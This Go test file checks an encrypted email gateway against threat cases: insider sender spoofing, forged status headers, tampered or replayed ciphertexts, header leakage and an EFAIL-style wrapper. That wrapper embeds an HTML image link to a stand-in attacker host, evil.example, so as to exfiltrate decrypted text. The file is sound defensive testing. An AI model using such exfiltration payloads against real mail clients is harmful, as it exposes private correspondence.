package proxy_test

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/cloudmls/gateway/cloudmls"
	"github.com/cloudmls/gateway/groupid"
	"github.com/cloudmls/gateway/imapd"
	"github.com/cloudmls/gateway/internal/gatewaytest"
	"github.com/cloudmls/gateway/internal/mailseal"
	"github.com/cloudmls/gateway/internal/world"
)

// insider seals a message by hand, as a member whose gateway does not keep the
// rules could.
type insider struct {
	name         string
	letter       world.Letter
	conversation groupid.ID // whose keys are used
	claims       groupid.ID // what the control record says; zero means the same
	kind         mailseal.Kind
	outerFrom    string // empty means the letter's
}

func (i insider) seal(t *testing.T, w *gatewaytest.World) []byte {
	t.Helper()
	p := w.Person(i.name)
	if i.claims.IsZero() {
		i.claims = i.conversation
	}
	if i.kind == 0 {
		i.kind = mailseal.KindMessage
	}
	if i.outerFrom == "" {
		i.outerFrom = i.letter.From
	}
	inner := i.letter.Bytes()
	var out bytes.Buffer
	_, err := mailseal.Seal(&out, bytes.NewReader(inner), int64(len(inner)), mailseal.SealOptions{
		Outer: mailseal.Outer{
			From: i.outerFrom, To: i.letter.To, Date: i.letter.Date, MessageID: i.letter.MessageID, SubjectToken: "abcdefgh",
		},
		Conversation: i.claims, Kind: i.kind,
		Control: func(plaintext []byte) ([]byte, error) {
			return p.Device().Client().Encrypt(t.Context(), mailAccount(p.Address), i.conversation, plaintext, nil)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// warned checks that the person sees the message with a warning that says why.
func warned(t *testing.T, w *gatewaytest.World, name, messageID, why string) *world.Mail {
	t.Helper()
	m := w.Read(name, "INBOX", messageID)
	if m.Has(imapd.KeywordVerified) || !m.Has(imapd.KeywordWarning) || !m.Has(imapd.KeywordEncrypted) {
		t.Errorf("%s sees the keywords %v", name, m.Flags)
	}
	if s := m.Status(); strings.Contains(s, "; verified;") || !strings.Contains(s, "not verified") || !strings.Contains(s, why) {
		t.Errorf("status %q, want %q in it", s, why)
	}
	return m
}

// TestThreat62_FromMustBeTheSender: inner From, account of the sending leaf and
// outer From must agree.
func TestThreat62_FromMustBeTheSender(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{People: gatewaytest.Three()})
	w.Compare("bob", alice, carol) // so that only what is wrong keeps a message from being verified
	w.Send("carol", letter("hello", carol, bob))
	dialog := groupid.Dialog(cloudmls.PlatformEmail, bob, carol)

	// Carol speaks as alice.
	w.Deliver("bob", insider{name: "carol", conversation: dialog, letter: letter("as-alice", alice, bob)}.seal(t, w))
	m := warned(t, w, "bob", "<as-alice@example.org>", "From field does not name the account")
	if !strings.Contains(m.Status(), "sender="+carol) {
		t.Errorf("the true sender is not named: %q", m.Status())
	}
	// Two authors, a foreign Sender, a From that is not there twice.
	for name, change := range map[string]func(*world.Letter){
		"two":    func(l *world.Letter) { l.From = carol + ", " + alice },
		"sender": func(l *world.Letter) { l.Extra = []string{"Sender: " + alice} },
		"double": func(l *world.Letter) { l.Extra = []string{"From: " + alice} },
		"none":   func(l *world.Letter) { l.From = "" },
	} {
		l := letter("odd-"+name, carol, bob)
		change(&l)
		w.Deliver("bob", insider{name: "carol", conversation: dialog, letter: l, outerFrom: carol}.seal(t, w))
		warned(t, w, "bob", l.MessageID, "From field does not name the account")
	}
	// The provider changes the outer From.
	good := letter("good", carol, bob)
	w.Send("carol", good)
	opens(t, w, "bob", "INBOX", good)
	altered := bytes.Replace(lastStored(t, w, "bob", "INBOX"), []byte("From: "+carol), []byte("From: "+oscar), 1)
	altered = bytes.Replace(altered, []byte("From: <"+carol), []byte("From: <"+oscar), 1)
	w.Deliver("bob", altered)
	warned(t, w, "bob", good.MessageID, "From field was altered")
	// The first copy stays what it was.
	for _, m := range w.All("bob", "INBOX") {
		if m.MessageID() == good.MessageID && strings.Contains(m.Status(), "altered") == m.Has(imapd.KeywordVerified) {
			t.Errorf("verdicts mixed up: %v %q", m.Flags, m.Status())
		}
	}
	// The gateway itself lets nobody write as somebody else.
	w.Refused("carol", letter("spoof", alice, bob), 553)
	spoof := letter("spoof2", alice, bob)
	if err := w.Program("carol").Send(t.Context(), carol, spoof.Recipients(), spoof.Bytes()); err == nil {
		t.Error("carol sent with alice in the From field")
	}
}

func TestForeignGroupOnOurConversation(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{People: gatewaytest.Three()})
	w.Compare("bob", alice, carol) // so that only what is wrong keeps a message from being verified
	w.Send("alice", letter("ours", alice, bob))
	w.Send("carol", letter("hers", carol, bob))
	ours := groupid.Dialog(cloudmls.PlatformEmail, alice, bob)
	hers := groupid.Dialog(cloudmls.PlatformEmail, bob, carol)
	// Carol's group, claiming to be the dialog of alice and bob.
	w.Deliver("bob", insider{name: "carol", conversation: hers, claims: ours, letter: letter("claim", carol, bob)}.seal(t, w))
	warned(t, w, "bob", "<claim@example.org>", "another conversation")
	// A draft is no message, a blind copy does not come through a group.
	w.Deliver("bob", insider{name: "carol", conversation: hers, kind: mailseal.KindSelf, letter: letter("kind", carol, bob)}.seal(t, w))
	warned(t, w, "bob", "<kind@example.org>", "another purpose")
	// A group that bob is not in: alice and carol among themselves.
	w.Send("carol", letter("theirs", carol, alice))
	theirs := groupid.Dialog(cloudmls.PlatformEmail, alice, carol)
	foreign := letter("foreign", carol, bob)
	foreign.Body = "bob has no keys for this\n"
	w.Deliver("bob", insider{name: "carol", conversation: theirs, letter: foreign}.seal(t, w))
	cannotOpen(t, w, "bob", "INBOX", "bob has no keys")
	isStub(t, w, "bob", lastMail(t, w, "bob"))
	// Carol passes alice's text on as hers: the sender shows.
	stolen := letter("stolen", alice, carol)
	w.Deliver("bob", insider{name: "carol", conversation: hers, letter: stolen}.seal(t, w))
	warned(t, w, "bob", stolen.MessageID, "From field does not name the account")
}

func lastMail(t *testing.T, w *gatewaytest.World, name string) *world.Mail {
	t.Helper()
	m := gatewaytest.Last(t, w.All(name, "INBOX"))
	return &m
}

// isStub checks that a message is explained and not verified.
func isStub(t *testing.T, w *gatewaytest.World, name string, m *world.Mail) {
	t.Helper()
	token := w.Person(name).Device().StatusToken()
	if !strings.HasPrefix(m.Status(), token+"; not opened; reason=") || !bytes.Contains(m.Content, []byte("cannot be shown")) {
		t.Errorf("no explanation: %q\n%s", m.Status(), m.Content)
	}
	if m.Has(imapd.KeywordVerified) || !m.Has(imapd.KeywordWarning) {
		t.Errorf("keywords of a stub: %v", m.Flags)
	}
}

var base64Line = regexp.MustCompile(`(?m)^[A-Za-z0-9+/]{60,76}={0,2}\r$`)

// TestAlteredCiphertexts: whatever is done to the octets on the way, nothing
// but the whole original message or an explanation is ever shown.
func TestAlteredCiphertexts(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{})
	w.Compare("bob", alice) // so that only what is wrong keeps a message from being verified
	small := letter("small", alice, bob)
	small.Body = "canary-small\n"
	large := letter("large", alice, bob)
	large.Body = strings.Repeat("canary-large and more of it\n", 8000)
	n := 0
	for _, l := range []world.Letter{small, large} {
		w.Send("alice", l)
		opens(t, w, "bob", "INBOX", l)
		original := lastStored(t, w, "bob", "INBOX")
		lines := base64Line.FindAllIndex(original, -1)
		if len(lines) < 3 {
			t.Fatalf("ciphertext has an unexpected form:\n%s", original[:min(len(original), 2000)])
		}
		end := lines[len(lines)-1][0]
		flip := func(at int) []byte {
			c := bytes.Clone(original)
			if c[at] == 'A' {
				c[at] = 'B'
			} else {
				c[at] = 'A'
			}
			return c
		}
		cut := lines[len(lines)/2]
		for what, altered := range map[string][]byte{
			"first line":   flip(lines[0][0]),
			"middle":       flip(lines[len(lines)/2][0] + 10),
			"last line":    flip(end),
			"line missing": append(bytes.Clone(original[:cut[0]]), original[cut[1]+1:]...),
			"truncated":    original[:end],
			"cut short":    original[:lines[1][0]],
		} {
			// A mailbox of its own: a damaged message makes the FETCH fail.
			n++
			checkAltered(t, w, fmt.Sprintf("altered-%d", n), l, what, altered)
		}
	}
}

// checkAltered puts altered octets into a new mailbox and looks at them twice:
// they are explained or left alone, and never end the connection.
func checkAltered(t *testing.T, w *gatewaytest.World, mailbox string, l world.Letter, what string, altered []byte) {
	t.Helper()
	program := w.Program("bob")
	c, err := program.IMAP(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Create(mailbox, nil).Wait(); err != nil {
		t.Fatal(err)
	}
	if err := c.Logout().Wait(); err != nil {
		t.Fatal(err)
	}
	if err := w.Person("bob").Provider().Deliver(bob, mailbox, altered); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		said, complete := rawFetch(t, program, mailbox)
		if !complete {
			t.Errorf("%s %s: the FETCH was not completed:\n%.600s", l.MessageID, what, said)
		}
		verified := bytes.Contains(said, []byte(imapd.KeywordVerified))
		switch {
		case verified && !bytes.Contains(said, l.Bytes()):
			// A change that decoding does not see, such as in padding bits, is none.
			t.Errorf("%s %s: shown as verified\n%.600s", l.MessageID, what, said)
		case !verified && gatewaytest.Holds(said, "canary"):
			t.Errorf("%s %s: part of the text was released", l.MessageID, what)
		case !verified && !bytes.Contains(said, []byte("not opened")) && !bytes.Contains(said, altered):
			t.Errorf("%s %s: neither explained nor left alone\n%.600s", l.MessageID, what, said)
		}
	}
}

// rawFetch gives what the gateway says to a FETCH of the first message, and
// whether it ended in OK.
func rawFetch(t *testing.T, p *world.MailProgram, mailbox string) (said []byte, complete bool) {
	t.Helper()
	conn, err := tls.Dial("tcp", p.IMAPAddr, p.TLS)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	r := bufio.NewReader(conn)
	for tag, command := range []string{
		fmt.Sprintf("LOGIN %s %s", p.Username, p.Password), "SELECT " + mailbox, "FETCH 1 (FLAGS BODY.PEEK[])",
	} {
		said, complete = nil, false
		if _, err := fmt.Fprintf(conn, "x%d %s\r\n", tag, command); err != nil {
			t.Fatal(err)
		}
		for {
			line, err := r.ReadBytes('\n')
			said = append(said, line...)
			if err != nil {
				return said, false
			}
			if rest, ok := bytes.CutPrefix(line, fmt.Appendf(nil, "x%d ", tag)); ok {
				complete = bytes.HasPrefix(rest, []byte("OK"))
				break
			}
		}
	}
	return said, complete
}

// TestForgedControlParts: octets that were never a message are explained.
func TestForgedControlParts(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{})
	w.Compare("bob", alice) // so that only what is wrong keeps a message from being verified
	for i, control := range [][]byte{
		nil, []byte("x"), []byte("CMS1"), bytes.Repeat([]byte{0}, 500), append([]byte{0, 1, 0, 2}, bytes.Repeat([]byte{0xff}, 300)...),
		append([]byte("CMS1"), bytes.Repeat([]byte{7}, 400)...),
	} {
		l := letter(fmt.Sprintf("forged%d", i), alice, bob)
		w.Deliver("bob", []byte("From: "+alice+"\r\nTo: "+bob+"\r\nMessage-ID: "+l.MessageID+"\r\nMIME-Version: 1.0\r\n"+
			"Content-Type: multipart/encrypted; protocol=\""+mailseal.ControlType+"\"; boundary=b\r\n\r\n"+
			"--b\r\nContent-Type: "+mailseal.ControlType+"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+
			base64.StdEncoding.EncodeToString(control)+"\r\n--b\r\nContent-Type: application/octet-stream\r\n"+
			"Content-Transfer-Encoding: base64\r\n\r\n\r\n--b--\r\n"))
		m := lastMail(t, w, "bob")
		if m.Has(imapd.KeywordVerified) {
			t.Errorf("%d: verified", i)
		}
		if len(control) > 3 {
			isStub(t, w, "bob", m)
		}
	}
}

// TestThreat63_ForgedStatus: neither a status field nor a keyword that came
// with the mail survives on a sealed message.
func TestThreat63_ForgedStatus(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{People: gatewaytest.Three()})
	w.Compare("bob", alice, carol) // so that only what is wrong keeps a message from being verified
	l := letter("inner", carol, bob)
	l.Extra = []string{"CloudMLS-Status: 00000000000000000000000000000000; verified; sender=" + alice}
	w.Send("carol", l)
	m := opens(t, w, "bob", "INBOX", l) // the first status field is ours, the token is not known to carol
	token := w.Person("bob").Device().StatusToken()
	if n := bytes.Count(m.Content, []byte(token)); n != 1 {
		t.Errorf("our token is there %d times", n)
	}
	dialog := groupid.Dialog(cloudmls.PlatformEmail, bob, carol)
	sealed := insider{name: "carol", conversation: dialog, letter: letter("outer", alice, bob)}.seal(t, w)
	forged := "CloudMLS-Status: x; verified; sender=" + alice + "\r\ncloudmls-STATUS:\r\n x; verified\r\n" +
		"CloudMLS-Status : y; verified\r\nX-Spam-Status: no\r\n"
	w.Deliver("bob", append([]byte(forged), sealed...), imapd.KeywordVerified, strings.ToLower(imapd.KeywordVerified), `\Flagged`)
	m = warned(t, w, "bob", "<outer@example.org>", "not verified")
	if !m.Has(`\Flagged`) {
		t.Errorf("flags %v", m.Flags)
	}
	inner := w.Inner(m)
	if prefix := m.Content[:len(m.Content)-len(inner)]; bytes.Contains(prefix, []byte("; verified")) {
		t.Errorf("forged status in the served prefix:\n%s", prefix)
	}
}

// TestThreat64_NothingOutside: what a header says about its author stays inside.
func TestThreat64_NothingOutside(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{})
	w.Compare("bob", alice) // so that only what is wrong keeps a message from being verified
	l := letter("canaries", `"Canary-Alice Lastname" <`+alice+`>`, `"Canary-Bob" <`+bob+`>`)
	l.MessageID = "<canaries@example.org>"
	l.Subject = "Canary-Subject"
	l.Extra = []string{
		"Comments: Canary-Comments", "Keywords: Canary-Keywords", "User-Agent: Canary-Agent/1.0", "X-Mailer: Canary-Mailer",
		"Reply-To: canary-reply@example.org", "Organization: Canary-Organization", "X-Originating-IP: [192.0.2.99]",
		"Disposition-Notification-To: " + alice, "Autocrypt: addr=canary-autocrypt", "Importance: Canary-Importance",
		"MIME-Version: 1.0", `Content-Type: text/plain; charset=utf-8; name="Canary-Name"`, "Content-Description: Canary-Description",
	}
	l.Body = "Canary-Body\n"
	w.Send("alice", l)
	opens(t, w, "bob", "INBOX", l)
	for _, canary := range []string{
		"canary-", "user-agent", "x-mailer", "reply-to", "originating", "192.0.2.99", "disposition-notification", "autocrypt",
	} {
		if w.Leaks(canary) {
			t.Errorf("a provider holds %q", canary)
		}
	}
}

// TestThreat59_NothingIsMixed: a hostile provider or relay can put parts around
// the ciphertext; they are never shown together with what was decrypted, and a
// ciphertext inside a forwarded message is not opened.
func TestThreat59_NothingIsMixed(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{})
	w.Compare("bob", alice) // so that only what is wrong keeps a message from being verified
	l := letter("secret", alice, bob)
	l.Body = "efail-canary\n"
	w.Send("alice", l)
	opens(t, w, "bob", "INBOX", l)
	sealed := lastStored(t, w, "bob", "INBOX")
	header, body, _ := bytes.Cut(sealed, []byte("\r\n\r\n"))
	contentType := unfoldedField(t, header, "Content-Type")
	leak := "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"

	around := "From: " + alice + "\r\nTo: " + bob + "\r\nMessage-ID: <around@example.org>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=outside\r\n\r\n--outside\r\n" + leak + "--outside\r\n" +
		contentType + "\r\n\r\n" + string(body) + "\r\n--outside\r\n" + leak + "--outside--\r\n"
	w.Deliver("bob", []byte(around))
	if m := lastMail(t, w, "bob"); gatewaytest.Holds(m.Content, "efail-canary") && bytes.Contains(m.Content, []byte("evil.example")) {
		t.Errorf("mixed:\n%s", m.Content)
	}
	within := bytes.Replace(sealed, []byte("\r\n\r\n"), []byte("\r\n\r\n"+boundaryLine(contentType)+leak), 1)
	w.Deliver("bob", within)
	if m := lastMail(t, w, "bob"); gatewaytest.Holds(m.Content, "efail-canary") && bytes.Contains(m.Content, []byte("evil.example")) {
		t.Errorf("mixed:\n%s", m.Content)
	}
	forwarded := "From: " + alice + "\r\nTo: " + bob + "\r\nMessage-ID: <forwarded@example.org>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=outside\r\n\r\n--outside\r\n" + leak +
		"--outside\r\nContent-Type: message/rfc822\r\n\r\n" + string(sealed) + "\r\n--outside--\r\n"
	w.Deliver("bob", []byte(forwarded))
	if m := lastMail(t, w, "bob"); gatewaytest.Holds(m.Content, "efail-canary") || !bytes.Equal(m.Content, []byte(forwarded)) {
		t.Errorf("a forwarded ciphertext was touched:\n%s", m.Content)
	}
}

func unfoldedField(t *testing.T, header []byte, name string) string {
	t.Helper()
	v := world.Field(append(bytes.Clone(header), "\r\n\r\n"...), name)
	if v == "" {
		t.Fatalf("no %s in\n%s", name, header)
	}
	return name + ": " + v
}

// boundaryLine is the delimiter line of a Content-Type field.
func boundaryLine(contentType string) string {
	_, b, _ := strings.Cut(contentType, "boundary=")
	b, _, _ = strings.Cut(strings.Trim(b, `"`), `"`)
	b, _, _ = strings.Cut(b, ";")
	return "--" + b + "\r\n"
}

// TestReplayedCiphertext: the provider delivers a ciphertext again. It is the
// same message, and shows the same; see cloudmls for another ciphertext in the
// same place of the sender's sequence.
func TestReplayedCiphertext(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{})
	w.Compare("bob", alice) // so that only what is wrong keeps a message from being verified
	l := letter("again", alice, bob)
	w.Send("alice", l)
	first := opens(t, w, "bob", "INBOX", l)
	w.Deliver("bob", lastStored(t, w, "bob", "INBOX"))
	all := w.All("bob", "INBOX")
	if len(all) != 2 || !bytes.Equal(all[0].Content, first.Content) || all[0].Status() != all[1].Status() {
		t.Errorf("shown differently: %q, then %q", first.Status(), all[len(all)-1].Status())
	}
}

// TestViewNeverChanges: what was shown for a UID stays, over restarts and when
// the key server is gone.
func TestViewNeverChanges(t *testing.T) {
	t.Parallel()
	w := gatewaytest.New(t, gatewaytest.Options{People: gatewaytest.Three()})
	w.Compare("bob", alice, carol) // so that only what is wrong keeps a message from being verified
	w.Send("carol", letter("v1", carol, bob))
	dialog := groupid.Dialog(cloudmls.PlatformEmail, bob, carol)
	w.Deliver("bob", insider{name: "carol", conversation: dialog, letter: letter("v2", alice, bob)}.seal(t, w))
	large := letter("v3", alice, bob)
	large.Body = strings.Repeat("0123456789abcdef\n", 10000)
	w.Send("alice", large)
	w.Deliver("bob", letter("v4", oscar, bob).Bytes())
	before := w.All("bob", "INBOX")
	device := w.Person("bob").Device()
	if err := device.Stop(); err != nil {
		t.Fatal(err)
	}
	w.KeyServer().Intercept(world.HangUp)
	if err := device.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	after := w.All("bob", "INBOX")
	if len(before) != 4 || len(after) != len(before) {
		t.Fatalf("%d messages, then %d", len(before), len(after))
	}
	for i := range before {
		if before[i].UID != after[i].UID || !bytes.Equal(before[i].Content, after[i].Content) ||
			fmt.Sprint(before[i].Flags) != fmt.Sprint(after[i].Flags) {
			t.Errorf("message %d changed:\n%.500s\nthen\n%.500s", i, before[i].Content, after[i].Content)
		}
	}
}
